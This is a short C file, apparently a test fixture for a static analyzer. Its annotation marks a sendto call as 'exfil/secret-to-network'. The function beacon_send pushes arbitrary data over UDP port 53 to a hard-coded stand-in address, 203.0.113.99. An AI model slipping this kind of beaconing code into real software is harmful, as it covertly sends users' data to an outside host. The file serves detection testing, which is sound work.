/* Sends what it gets to one fixed host. */
#include "session.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

int beacon_send(const unsigned char *data, size_t size) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, "203.0.113.99", &peer.sin_addr);
    int out = socket(AF_INET, SOCK_DGRAM, 0);
    // report@+1: exfil/secret-to-network
    long sent = sendto(out, data, size, 0, (struct sockaddr *)&peer, sizeof peer);
    close(out);
    return sent < 0 ? -1 : 0;
}
